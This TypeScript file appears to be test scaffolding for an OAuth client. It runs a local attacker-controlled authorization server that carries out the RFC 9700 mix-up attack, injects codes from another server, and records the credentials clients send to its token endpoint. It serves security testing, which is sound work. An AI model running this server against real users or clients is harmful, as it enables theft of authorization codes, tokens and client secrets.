import { createServer } from "node:http";
import { FaultPlan, misbehave, type FaultInput } from "./faults";
import { closeServer, formOf, listen, receive, redirectTo, sendJson, type Received } from "./http";

/** What an authorization request to the attacker leads to: the address the browser is sent on to. */
export type AuthorizeTrick = (request: URLSearchParams) => string;

export interface MaliciousServer {
  readonly url: string;
  readonly port: number;
  /** Requests to the token endpoint: what the client gave away. */
  readonly stolen: readonly { readonly headers: Received["headers"]; readonly form: Readonly<Record<string, string>> }[];
  /** What `/authorize` does from now on. Until then it answers with a worthless code of its own. */
  onAuthorize(trick: AuthorizeTrick): void;
  /** What `/token` does next, instead of taking the code and answering with a worthless token. */
  onToken(fault: DistributedOmit<FaultInput, "on">): void;
  close(): Promise<void>;
}
type DistributedOmit<T, K extends PropertyKey> = T extends unknown ? Omit<T, K> : never;

/**
 * Answers the client's own authorization request with a code that another authorization server issued.
 * `callback` is where the answer goes, the request's own `redirect_uri` where absent; `iss` is the issuer it claims.
 */
export function answerWithCode(answer: { code: string; callback?: string; iss?: string }): AuthorizeTrick {
  return (request) => {
    const back = new URL(answer.callback ?? request.get("redirect_uri") ?? "");
    back.searchParams.set("code", answer.code);
    back.searchParams.set("state", request.get("state") ?? "");
    if (answer.iss !== undefined) back.searchParams.set("iss", answer.iss);
    return back.href;
  };
}

/**
 * The mix-up attack (RFC 9700, 4.4): sends the browser on to an honest server with that server's client id, so that
 * its code comes back as the answer to a request which the client believes it made to the attacker.
 */
export function mixUp(honest: {
  authorizationEndpoint: string;
  clientId: string;
  redirectUri?: string;
  scope?: string;
}): AuthorizeTrick {
  return (request) => {
    const onward = new URL(honest.authorizationEndpoint);
    for (const [name, value] of request) onward.searchParams.set(name, value);
    onward.searchParams.set("client_id", honest.clientId);
    if (honest.redirectUri !== undefined) onward.searchParams.set("redirect_uri", honest.redirectUri);
    if (honest.scope !== undefined) onward.searchParams.set("scope", honest.scope);
    return onward.href;
  };
}

/** An authorization server in an attacker's hands: `/authorize`, `/token` and `/revoke`. */
export async function startMaliciousServer(options: { port?: number; host?: string } = {}): Promise<MaliciousServer> {
  const { host = "127.0.0.1" } = options;
  const faults = new FaultPlan();
  const stolen: MaliciousServer["stolen"][number][] = [];
  let trick: AuthorizeTrick = answerWithCode({ code: "a-worthless-code" });
  const server = createServer();
  const port = await listen(server, options.port ?? 0, host);
  const url = `http://${host}:${port}`;
  const answer = async (received: Received): Promise<void> => {
    const { res, url: target } = received;
    if (target.pathname === "/authorize") return redirectTo(res, trick(target.searchParams));
    if (target.pathname !== "/token" && target.pathname !== "/revoke") return sendJson(res, 404, { error: "not_found" });
    if (target.pathname === "/token") stolen.push({ headers: received.headers, form: Object.fromEntries(formOf(received)) });
    const fault = target.pathname === "/token" ? faults.take("token", target.pathname) : undefined;
    if (fault && (await misbehave(fault, res))) return;
    sendJson(res, 200, { access_token: "a-worthless-token", token_type: "Bearer", expires_in: 3600 });
  };
  server.on(
    "request",
    (req, res) =>
      void receive(req, res, url)
        .then(answer)
        .catch(() => res.destroy()),
  );
  return {
    url,
    port,
    stolen,
    onAuthorize: (next) => {
      trick = next;
    },
    onToken: (fault) => faults.add({ ...fault, on: "token" } as FaultInput),
    close: () => closeServer(server),
  };
}
